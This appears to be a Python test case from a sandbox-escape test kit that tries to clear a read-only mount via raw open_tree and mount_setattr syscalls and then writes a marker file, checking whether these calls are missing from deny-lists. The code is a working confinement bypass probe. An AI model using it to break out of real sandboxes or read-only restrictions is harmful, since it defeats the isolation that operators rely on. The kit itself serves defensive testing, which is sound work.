#!/usr/bin/python3
# Goal:    clear the read-only attribute of a detached clone with mount_setattr and write through it
# Models:  new mount API missing from deny-lists
# Oracle:  marker
# Tier:    core
# Needs:   -
from ctk import *

mntns()
fd = sc(428, -100, OUT, 1 | 0x8000 | 0x80000)
at = struct.pack("<QQQQ", 0, 1, 0, 0)
try:
    sc(442, fd, b"", 0x1000 | 0x8000, ctypes.create_string_buffer(at, 32), 32)
except OSError as e:
    first = e
w = os.open("m-" + NONCE, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
os.write(w, NONCE.encode())
escaped("wrote after mount_setattr")
